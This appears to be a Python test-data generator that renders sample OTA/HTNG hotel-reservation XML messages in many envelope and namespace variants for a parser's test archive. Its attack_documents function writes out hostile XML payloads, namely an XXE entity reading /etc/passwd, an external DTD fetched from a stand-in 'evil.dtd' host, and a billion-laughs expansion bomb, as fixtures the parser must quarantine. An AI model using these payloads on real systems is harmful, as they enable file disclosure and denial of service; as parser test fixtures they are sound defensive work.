"""The HTNG / OpenTravel documents of the sample's archive (:mod:`sample.htng_archive` plans and writes it):
messages in every envelope, namespace and message-type variant the parser supports, plus hostile and broken
documents.

Rendered with plain string templates (the generator must not share the parser's code); every variant is
chosen in turn so that a small sample still holds each one.
"""

from __future__ import annotations

import gzip
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date
from html import escape

OTA_2003 = "http://www.opentravel.org/OTA/2003/05"
OTA_LEGACY = "http://www.opentravel.org/OTA"
SOAP11 = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP12 = "http://www.w3.org/2003/05/soap-envelope"
WSA = "http://www.w3.org/2005/08/addressing"
HTNG_HEADERS = "http://htng.org/PWSWG/2007/02/AsyncHeaders"

# (namespace or None, element prefix or "")
NAMESPACES: tuple[tuple[str | None, str], ...] = ((OTA_2003, ""), (OTA_LEGACY, ""), (None, ""), (OTA_2003, "ota:"))
ENVELOPES: tuple[str, ...] = ("none", "soap11", "soap12", "htng")
# Message types carrying (possibly several) HotelReservation elements.
BOOKING_MESSAGES: tuple[str, ...] = ("OTA_HotelResNotifRQ", "OTA_HotelResRQ", "OTA_ResRetrieveRS")
STATUS_WORDS: dict[str, tuple[str, ...]] = {
    "CONFIRMED": ("Reserved", "Book", "Commit", "Modify", ""),
    "CANCELLED": ("Cancelled", "Cancel"),
    "IN_HOUSE": ("In-house", "InHouse", "Checked-In"),
    "CHECKED_OUT": ("Checked-Out", "CheckedOut"),
    "NO_SHOW": ("No-show",),
    "WAITLISTED": ("Waitlisted",),
}
# Reservation-level breakages (one each, when the sample is asked for broken data) -> expected reason.
BROKEN_RESERVATIONS: tuple[tuple[str, str], ...] = (
    ("bad_iso_time", "BAD_TIMESTAMP"),
    ("no_time", "BAD_TIMESTAMP"),
    ("initiate_status", "BAD_STATUS"),
    ("bad_amount", "BAD_AMOUNT"),
    ("same_day", "DEPARTURE_NOT_AFTER_ARRIVAL"),
)
OVERSIZED_BYTES = 5 * 1024 * 1024  # over the default input.htng.max_document_bytes (4 MiB)


@dataclass(frozen=True)
class HtngReservation:
    """One reservation version as a message carries it (text values, times already formatted)."""

    conf: str
    hotel_code: str
    status_word: str
    last_modified: str
    created: str
    arrival: str
    departure: str
    adults: int
    children: int
    first: str
    last: str
    email: str
    phone: str
    country: str
    currency: str
    nightly: float
    rooms: int
    room_type: str
    card: tuple[str, str]  # (style, value): ("pan", PAN) ("plain", PAN) ("mask", mask) ("token", token) ("", "")
    card_code: str
    channel: str
    break_as: str = ""


def render(
    message_type: str, reservations: Sequence[HtngReservation], *, variant: int, message_id: str, seq: int
) -> bytes:
    """One document: the OTA message (in variant ``variant``'s namespace, prefix and envelope)."""
    ns, p = NAMESPACES[variant % len(NAMESPACES)]
    envelope = ENVELOPES[(variant // len(NAMESPACES)) % len(ENVELOPES)]
    if ns is None:
        xmlns = ""
    elif p:
        xmlns = f' xmlns:{p[:-1]}="{ns}"'
    else:
        xmlns = f' xmlns="{ns}"'
    first = reservations[0]
    stamp = first.last_modified if first.break_as != "no_time" else ""
    echo = f' EchoToken="{message_id}"' if envelope in ("none", "soap11") else ""
    attrs = f'{xmlns}{echo} Version="1.0" SequenceNmbr="{seq}"' + (f' TimeStamp="{stamp}"' if stamp else "")
    if message_type == "OTA_CancelRQ":
        body = f'<{p}OTA_CancelRQ{attrs} CancelType="Cancel">{_cancel(first, p)}</{p}OTA_CancelRQ>'
    elif message_type == "OTA_HotelResModifyNotifRQ":
        mods = "".join(_reservation(r, p, "HotelResModify") for r in reservations)
        body = (
            f'<{p}{message_type}{attrs} ResStatus="Modify">{_pos(first, p)}'
            f"<{p}HotelResModifies>{mods}</{p}HotelResModifies></{p}{message_type}>"
        )
    else:
        container = "ReservationsList" if message_type == "OTA_ResRetrieveRS" else "HotelReservations"
        res = "".join(_reservation(r, p, "HotelReservation") for r in reservations)
        success = f"<{p}Success/>" if message_type == "OTA_ResRetrieveRS" else ""
        body = (
            f"<{p}{message_type}{attrs}>{success}{_pos(first, p)}"
            f"<{p}{container}>{res}</{p}{container}></{p}{message_type}>"
        )
    return _enveloped(body, envelope, message_id).encode("utf-8")


def _enveloped(body: str, envelope: str, message_id: str) -> str:
    head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    if envelope == "none":
        return head + body
    if envelope == "soap11":
        return f'{head}<soap:Envelope xmlns:soap="{SOAP11}"><soap:Body>{body}</soap:Body></soap:Envelope>'
    if envelope == "soap12":
        return (
            f'{head}<env:Envelope xmlns:env="{SOAP12}" xmlns:wsa="{WSA}"><env:Header>'
            f"<wsa:MessageID>{message_id}</wsa:MessageID><wsa:Action>HTNG2011B_SubmitRequest</wsa:Action>"
            f"</env:Header><env:Body>{body}</env:Body></env:Envelope>"
        )
    return (
        f'{head}<soap:Envelope xmlns:soap="{SOAP12}"><soap:Header><htng:HTNGHeader xmlns:htng="{HTNG_HEADERS}">'
        f"<htng:From><htng:systemId>CRS</htng:systemId></htng:From><htng:MessageID>{message_id}</htng:MessageID>"
        f"</htng:HTNGHeader></soap:Header><soap:Body>{body}</soap:Body></soap:Envelope>"
    )


def _pos(r: HtngReservation, p: str) -> str:
    if not r.channel:
        return ""
    return (
        f'<{p}POS><{p}Source><{p}BookingChannel Type="7" Primary="true"><{p}CompanyName Code="{escape(r.channel)}"/>'
        f"</{p}BookingChannel></{p}Source></{p}POS>"
    )


def _reservation(r: HtngReservation, p: str, tag: str) -> str:
    status = f' ResStatus="{r.status_word}"' if r.status_word else ""
    times = "" if r.break_as == "no_time" else f' CreateDateTime="{r.created}" LastModifyDateTime="{r.last_modified}"'
    rooms = "".join(_room_stay(r, p, i) for i in range(r.rooms))
    total = round(r.nightly * r.rooms * _nights(r), 2)
    total_text = "12x.00" if r.break_as == "bad_amount" else f"{total:.2f}"
    # the hotel code on the room stays for every other reservation, else on ResGlobalInfo
    on_rooms = int(r.conf[-1]) % 2 == 0
    global_property = "" if on_rooms else f'<{p}BasicPropertyInfo HotelCode="{r.hotel_code}"/>'
    return (
        f"<{p}{tag}{status}{times}>"
        f'<{p}UniqueID Type="14" ID="CRS{r.conf[::-1]}"/>'
        f"<{p}RoomStays>{rooms}</{p}RoomStays>"
        f'<{p}ResGuests><{p}ResGuest ResGuestRPH="1" PrimaryIndicator="true"><{p}Profiles><{p}ProfileInfo>'
        f'<{p}Profile ProfileType="1"><{p}Customer>{_person(r, p)}'
        f'<{p}Telephone PhoneNumber="{escape(r.phone)}"/><{p}Email>{escape(r.email)}</{p}Email>'
        f'<{p}Address><{p}CountryName Code="{r.country}"/></{p}Address></{p}Customer></{p}Profile>'
        f"</{p}ProfileInfo></{p}Profiles></{p}ResGuest></{p}ResGuests>"
        f"<{p}ResGlobalInfo>"
        f'<{p}GuestCounts><{p}GuestCount AgeQualifyingCode="10" Count="{r.adults}"/>'
        f'<{p}GuestCount AgeQualifyingCode="8" Count="{r.children}"/></{p}GuestCounts>'
        f'<{p}TimeSpan Start="{r.arrival}" End="{r.departure}"/>'
        f"{_guarantee(r, p)}"
        f'<{p}Total AmountAfterTax="{total_text}" CurrencyCode="{r.currency}"/>'
        f"<{p}HotelReservationIDs>"
        f'<{p}HotelReservationID ResID_Type="10" ResID_Value="{r.conf}" ResID_Source="PMS"/>'
        f"</{p}HotelReservationIDs>{global_property}</{p}ResGlobalInfo></{p}{tag}>"
    )


def _nights(r: HtngReservation) -> int:
    return max((date.fromisoformat(r.departure[:10]) - date.fromisoformat(r.arrival[:10])).days, 0)


def _person(r: HtngReservation, p: str) -> str:
    return (
        f"<{p}PersonName><{p}GivenName>{escape(r.first)}</{p}GivenName><{p}Surname>{escape(r.last)}</{p}Surname>"
        f"</{p}PersonName>"
    )


def _room_stay(r: HtngReservation, p: str, index: int) -> str:
    hotel = f'<{p}BasicPropertyInfo HotelCode="{r.hotel_code}"/>' if int(r.conf[-1]) % 2 == 0 else ""
    plan = ("BAR", "CORP", "PKG")[index % 3]
    return (
        f'<{p}RoomStay IndexNumber="{index + 1}">'
        f'<{p}RoomTypes><{p}RoomType RoomTypeCode="{r.room_type}{"KQT"[index % 3]}"/></{p}RoomTypes>'
        f'<{p}RatePlans><{p}RatePlan RatePlanCode="{plan}"/></{p}RatePlans>'
        f'<{p}RoomRates><{p}RoomRate RoomTypeCode="{r.room_type}{"KQT"[index % 3]}" RatePlanCode="{plan}">'
        f'<{p}Rates><{p}Rate UnitMultiplier="1" RateTimeUnit="Day"><{p}Base AmountAfterTax="{r.nightly:.2f}"'
        f' CurrencyCode="{r.currency}"/></{p}Rate></{p}Rates></{p}RoomRate></{p}RoomRates>'
        f'<{p}GuestCounts><{p}GuestCount AgeQualifyingCode="10" Count="{r.adults}"/></{p}GuestCounts>'
        f'<{p}TimeSpan Start="{r.arrival}" End="{r.departure}"/>{hotel}</{p}RoomStay>'
    )


def _guarantee(r: HtngReservation, p: str) -> str:
    style, value = r.card
    if not style:
        return ""
    if style == "pan":
        card = f'<{p}PaymentCard CardCode="{r.card_code}" CardNumber="{value}" ExpireDate="1229"/>'
    elif style == "plain":
        card = (
            f'<{p}PaymentCard CardCode="{r.card_code}" ExpireDate="1229"><{p}CardHolderName>{escape(r.last)}'
            f"</{p}CardHolderName><{p}CardNumber><{p}PlainText>{value}</{p}PlainText></{p}CardNumber>"
            f"</{p}PaymentCard>"
        )
    elif style == "mask":
        card = f'<{p}PaymentCard CardCode="{r.card_code}" Mask="{value}" ExpireDate="1229"/>'
    else:
        card = (
            f'<{p}PaymentCard CardCode="{r.card_code}" ExpireDate="1229"><{p}CardNumber Token="{value}"/>'
            f"</{p}PaymentCard>"
        )
    return (
        f'<{p}Guarantee GuaranteeType="CC/DC/Voucher"><{p}GuaranteesAccepted><{p}GuaranteeAccepted>{card}'
        f"</{p}GuaranteeAccepted></{p}GuaranteesAccepted></{p}Guarantee>"
    )


def _cancel(r: HtngReservation, p: str) -> str:
    return (
        f'<{p}UniqueID Type="14" ID="{r.conf}"/>'
        f"<{p}Verification>{_person(r, p)}"
        f'<{p}ReservationTimeSpan Start="{r.arrival}" End="{r.departure}"/>'
        f'<{p}TPA_Extensions><{p}BasicPropertyInfo HotelCode="{r.hotel_code}"/></{p}TPA_Extensions>'
        f"</{p}Verification>"
    )


def attack_documents(valid: bytes) -> dict[str, bytes]:
    """Hostile and broken documents; each must become one MALFORMED_XML quarantine record."""
    laughs = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    oversized_pad = b"<!-- " + b"x" * OVERSIZED_BYTES + b" -->"
    truncated = valid[: len(valid) * 2 // 3]
    return {
        "xxe.xml": (
            b'<?xml version="1.0"?>\n<!DOCTYPE OTA_HotelResNotifRQ [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            b'<OTA_HotelResNotifRQ xmlns="http://www.opentravel.org/OTA/2003/05">&xxe;</OTA_HotelResNotifRQ>'
        ),
        "xxe-network.xml": (
            b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://203.0.113.9/evil.dtd"> %ext;]>\n<r/>'
        ),
        "billion-laughs.xml": (
            '<?xml version="1.0"?>\n<!DOCTYPE lolz [' + "".join(laughs) + "]>\n<lolz>&lol9;</lolz>"
        ).encode(),
        "truncated.xml": truncated,
        "truncated.xml.gz": gzip.compress(valid)[:-20],
        "latin1-not-utf8.xml": valid.replace(b"Surname>", b"Surname>Mu\xf1oz-", 1),
        "oversized.xml": valid.replace(b"?>", b"?>" + oversized_pad, 1),
        "not-a-reservation.xml": (
            b'<?xml version="1.0"?><OTA_PingRQ xmlns="http://www.opentravel.org/OTA/2003/05">'
            b"<EchoData>ping</EchoData></OTA_PingRQ>"
        ),
        "empty.xml": b"",
    }


def status_word(status: str, pick: int) -> str:
    words = STATUS_WORDS[status]
    return words[pick % len(words)]
